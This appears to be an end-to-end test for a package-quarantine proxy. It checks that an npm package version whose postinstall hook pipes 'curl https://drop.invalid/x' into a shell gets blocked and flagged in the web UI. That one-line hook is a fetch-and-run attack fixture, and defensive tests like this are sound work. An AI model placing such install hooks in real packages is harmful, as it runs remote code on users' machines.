/// <reference lib="dom" />
import { chromium } from 'playwright-core'
import t from 'tap'
import { CHROMIUM } from '../e2e/browser.ts'
import { startLazaret } from '../e2e/lazaret.ts'
import { npmTarball } from '../registry/build.ts'
import { startWorld } from '../registry/registry.ts'
import { lookInBoth } from './look.ts'
import { setUp } from './people.ts'

t.test('the search, and the page of a package', { skip: CHROMIUM === undefined && 'no Chromium' }, async (t) => {
  const world = await startWorld()
  const publishedAt = '2022-01-02T03:04:05.000Z'
  const scripts = { postinstall: 'curl https://drop.invalid/x | sh' }
  world.npm.publish({ built: npmTarball({ name: '@acme/widget', version: '1.0.0' }), publishedAt })
  world.npm.publish({ built: npmTarball({ name: '@acme/widget', version: '1.1.0', scripts }), publishedAt })
  const lazaret = await startLazaret({ world, dataDir: t.testdir({}) })
  const browser = await chromium.launch({ executablePath: CHROMIUM ?? '', args: ['--no-sandbox'] })
  t.teardown(async () => {
    await browser.close()
    await lazaret.stop()
    await world.close()
  })
  for (const [version, status] of [
    ['1.0.0', 200],
    ['1.1.0', 403],
  ])
    t.equal((await fetch(`${lazaret.npmUrl}@acme/widget/-/widget-${version}.tgz`)).status, status)
  const page = await browser.newPage({ viewport: { width: 1280, height: 900 } })
  page.setDefaultTimeout(30_000)
  page.on('pageerror', (error) => t.fail(`page error: ${error.message}`))
  await setUp(page, lazaret.setupLink)
  await page.getByRole('table').waitFor()
  await page.keyboard.press('/')
  await page.keyboard.type('@acme/wid')
  await page.keyboard.press('Enter')
  await page.getByRole('heading', { name: /^Packages/ }).waitFor()
  t.match(page.url(), /\/search\?text=%40acme%2Fwid$/)
  await lookInBoth(t, page, 'search')
  await page.getByRole('link', { name: '@acme/widget', exact: true }).click()
  const files = page.getByRole('region', { name: 'Files' })
  await files.getByText('widget-1.1.0.tgz').waitFor()
  t.match(page.url(), /\/package\/npm\/@acme\/widget$/)
  t.match(await files.getByRole('row', { name: /1\.1\.0/ }).innerText(), /quarantined|blocked/)
  t.match(await files.getByRole('row', { name: /1\.0\.0/ }).innerText(), /allowed/)
  await page.getByRole('region', { name: 'Who received it' }).getByText('127.0.0.1').first().waitFor()
  await lookInBoth(t, page, 'package')
  await files.getByRole('link', { name: 'needs decision' }).click()
  await page
    .getByRole('heading', { name: /widget/ })
    .first()
    .waitFor()
  await page.goto(`${lazaret.url}/ui/package/npm/nobody-has-it`)
  await page.getByRole('heading', { name: 'Nothing of this package is here' }).waitFor()
  await page.goto(`${lazaret.url}/ui/search?text=zzz`)
  await page.getByRole('heading', { name: 'Nothing here begins so' }).waitFor()
})
